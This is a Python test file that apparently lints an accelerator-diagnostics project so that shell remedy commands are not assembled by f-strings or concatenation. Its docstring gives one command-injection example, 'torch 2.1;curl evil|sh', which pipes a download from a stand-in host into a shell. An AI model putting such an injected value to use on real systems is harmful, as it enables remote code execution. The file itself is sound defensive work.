"""No command for a person is pasted together: it is a constant, or accel.contract.command builds it of checked words.

A text may hold  torch 2.1;curl evil|sh : a value that is put between the words of a command by an f-string reaches
somebody's shell.
"""

import ast
import re
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).parent.parent
_TOOLS = re.compile(
    r"(?:sudo|pip|pip3|uv|conda|mamba|python|python3|docker|podman|kubectl|export|env|apt|apt-get|dnf|yum|modprobe|"
    r"nvidia-smi|npu-smi|rocm-smi|amd-smi|kill|rm|ls|lspci|setpci|systemctl|sbatch|srun|gcloud|chmod|usermod|unset|"
    r"ulimit|lsof|cat|echo|source) "
)
_HOMES = {"checks", "resolver", "rules"}  # where remedies are written
# Files that still paste, at most so often: to be mended, never to be added to.
LEFT = Counter(
    {
        "plugins/amd/accel_amd/checks/am006_amd_devices_hidden.py": 1,
        "plugins/gaudi/accel_gaudi/checks/ga002_unhealthy.py": 1,
        "plugins/gaudi/accel_gaudi/checks/ga003_ecc_error.py": 1,
        "plugins/nvidia/accel_nvidia/checks/nv060_nvcc_torch_cuda_mismatch.py": 1,
        "plugins/nvidia/accel_nvidia/checks/nv061_nvcc_missing.py": 1,
        "plugins/nvidia/accel_nvidia/checks/nv064_jax_cudnn_too_old.py": 1,
        "plugins/nvidia/accel_nvidia/checks/nv065_tensorflow_cuda_mismatch.py": 1,
        "plugins/tpu/accel_tpu/checks/tp002_device_permission.py": 1,
        "plugins/tpu/accel_tpu/checks/tp011_chips_hidden.py": 1,
        "src/accel/resolver/command.py": 3,
        "src/accel/resolver/remedies.py": 2,
    }
)


def pasted(tree: ast.AST) -> int:
    """Count the f-strings, formats and sums that are a remedy's command, or begin as one does."""
    commands = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.keyword) and node.arg == "command"}
    return sum(_is_built(node) and (id(node) in commands or _begins(node)) for node in ast.walk(tree))


def _is_built(node: ast.AST) -> bool:
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(part, ast.FormattedValue) for part in node.values)
    if isinstance(node, ast.BinOp):
        return isinstance(node.op, ast.Add | ast.Mod) and _begins(node)
    is_format = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
    return is_format and _begins(node)


def _begins(node: ast.AST) -> bool:
    first = node.values[0] if isinstance(node, ast.JoinedStr) else node
    first = first.left if isinstance(first, ast.BinOp) else first
    if isinstance(first, ast.Call) and isinstance(first.func, ast.Attribute):
        first = first.func.value
    return isinstance(first, ast.Constant) and isinstance(first.value, str) and bool(_TOOLS.match(first.value))


def found() -> Counter[str]:
    files = [path for top in ("src", "plugins") for path in (ROOT / top).rglob("*.py") if _HOMES & set(path.parts)]
    counts = {str(p.relative_to(ROOT)): pasted(ast.parse(p.read_text(encoding="utf-8"))) for p in files}
    return Counter({name: count for name, count in counts.items() if count and "template" not in name})


def test_commands_are_constants_or_built_of_checked_words() -> None:
    more = found() - LEFT
    assert not more, f"build these by accel.contract.command.command_line: {dict(more)}"


def test_the_lint_sees_what_it_is_for() -> None:
    assert pasted(ast.parse('Remedy(text="x", command=f"pip install torch=={version}")')) == 1
    assert pasted(ast.parse('line = "sudo kill " + pid')) == 1
    assert pasted(ast.parse('line = "sudo kill {}".format(pid)')) == 1
    assert pasted(ast.parse('Remedy(text="x", command=command_line("sudo kill", number_word(pid)))')) == 0
    assert pasted(ast.parse('Remedy(text=f"{name} is missing", command="pip check")')) == 0
